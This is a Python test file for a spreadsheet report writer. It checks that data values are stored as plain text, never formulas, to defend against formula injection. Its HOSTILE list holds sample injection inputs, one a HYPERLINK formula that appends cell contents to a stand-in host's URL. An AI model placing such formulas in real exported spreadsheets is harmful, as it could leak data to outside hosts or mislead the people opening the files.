"""Table workbooks: values from data are never formulas (OWASP formula injection), and the rows written as XML
read back as openpyxl's own writer would have written them."""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from itss_warehouse.reports.xlsx import LOCAL_TIMEZONE, Formatted, Sheet, keep_as_text, table_workbook

HOSTILE = ['=HYPERLINK("http://x.example/"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
STAMP = datetime(2026, 11, 1)


def formulas_in(data: bytes) -> list[str]:
    """Every <f> element of the workbook's sheets, as the raw XML has it."""
    with ZipFile(io.BytesIO(data)) as archive:
        return [
            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_text_from_data_is_written_as_a_string_never_a_formula():
    rows = [
        [value, 3, Formatted(0.75, "0.0%"), datetime(2026, 10, 5, 9, 30, tzinfo=LOCAL_TIMEZONE)] for value in HOSTILE
    ]
    data = table_workbook([Sheet("data", ["=header", "count", "rate", "opened"], rows)], STAMP)
    assert formulas_in(data) == []
    sheet = load_workbook(io.BytesIO(data))["data"]
    # As written; XML reads a carriage return back as a line feed (openpyxl writes it unescaped).
    assert [cell.value for cell in sheet["A"]] == ["=header", *(value.replace("\r", "\n") for value in HOSTILE)]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in sheet["A"])
    assert [(cell.value, cell.data_type) for cell in sheet[2][1:3]] == [(3, "n"), (0.75, "n")]
    assert sheet["C2"].number_format == "0.0%" and sheet["D2"].value == datetime(2026, 10, 5, 9, 30)
    assert not sheet["B2"].quotePrefix


# Every kind of value a report's appendix holds, and text that needs escaping or keeping as written.
VALUES = [
    ["INC-2026-000001", 3, Decimal("12.3456"), datetime(2026, 6, 1, 8, 5, tzinfo=LOCAL_TIMEZONE), date(2026, 6, 30)],
    ["  padded  ", -7, 0.1, datetime(2026, 6, 2, 23, 59, 59), None],
    ["a & <b>c</b> > d", 0, Decimal("0.1234567890123456789"), None, date(2000, 1, 1)],
    ["运维一部 · 中文", True, Formatted(Decimal("0.955"), "0.0%"), datetime(1900, 2, 1), None],
    ["#N/A", False, Formatted(None, "0.0"), datetime(2026, 6, 3, 12), date(2026, 1, 1)],
    ["=1+1", 10**15, 1e-20, None, None],
    ["", None, None, None, None],
]
HEADERS = ["编号", "count", "value", "opened", "due"]
FORMATS = {1: "0", 3: "yyyy-mm-dd hh:mm"}


def openpyxl_written(rows: list[list[object]]) -> bytes:
    """The same table through openpyxl's own cells and writer."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "data"
    sheet.append(HEADERS)
    for row in rows:
        sheet.append([value.value if isinstance(value, Formatted) else value for value in row])
        cells = sheet[sheet.max_row]
        for cell, value in zip(cells, row, strict=True):
            if isinstance(cell.value, datetime) and cell.value.tzinfo is not None:  # local time, as in an appendix
                cell.value = cell.value.astimezone(LOCAL_TIMEZONE).replace(tzinfo=None)
            if cell.value is None:
                continue
            if isinstance(value, Formatted):
                cell.number_format = value.number_format
            elif cell.column - 1 in FORMATS:
                cell.number_format = FORMATS[cell.column - 1]
        keep_as_text(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def read_back(data: bytes) -> list[list[tuple[object, ...]]]:
    sheet = load_workbook(io.BytesIO(data))["data"]
    return [
        [(cell.coordinate, cell.value, cell.data_type, cell.number_format, cell.quotePrefix) for cell in row]
        for row in sheet.iter_rows(min_row=2)
    ]


def test_rows_read_back_as_openpyxl_writes_them():
    data = table_workbook([Sheet("data", HEADERS, VALUES, FORMATS)], STAMP)
    assert read_back(data) == read_back(openpyxl_written(VALUES))
    with ZipFile(io.BytesIO(data)) as archive:
        # Excel drops a text's outer spaces unless told to keep them.
        assert '<t xml:space="preserve">  padded  </t>' in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(data))["data"]
    assert sheet["A3"].value == "  padded  " and sheet["A4"].value == "a & <b>c</b> > d"
    assert (sheet["A6"].data_type, sheet["A7"].data_type) == ("e", "s") and sheet["A7"].quotePrefix
    assert [cell.font.b for cell in sheet[1]] == [True] * 5 and not sheet["A2"].font.b
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:E8")
    # Wide enough for the longest value (CJK characters count double), at most 60.
    assert sheet.column_dimensions["A"].width == len("a & <b>c</b> > d") + 2
    # Readers that trust the sheet's stated extent (openpyxl's read-only mode, pandas) see every row.
    assert load_workbook(io.BytesIO(data), read_only=True)["data"].max_row == 8


def test_the_same_content_gives_the_same_bytes():
    assert table_workbook([Sheet("data", HEADERS, VALUES, FORMATS)], STAMP) == table_workbook(
        [Sheet("data", HEADERS, VALUES, FORMATS)], STAMP
    )


def test_a_table_without_rows_has_its_header():
    sheet = load_workbook(io.BytesIO(table_workbook([Sheet("data", HEADERS, [])], STAMP)))["data"]
    assert [cell.value for cell in sheet[1]] == HEADERS and sheet.max_row == 1 and sheet.auto_filter.ref == "A1:E1"


def test_text_a_worksheet_cannot_hold_is_an_error_and_a_row_must_fit_the_header():
    with pytest.raises(IllegalCharacterError):
        table_workbook([Sheet("data", ["id"], [["INC\x01"]])], STAMP)
    with pytest.raises(ValueError, match="row 2 of sheet 'data' has 2 values for 1 columns"):
        table_workbook([Sheet("data", ["id"], [["INC-1", 2]])], STAMP)
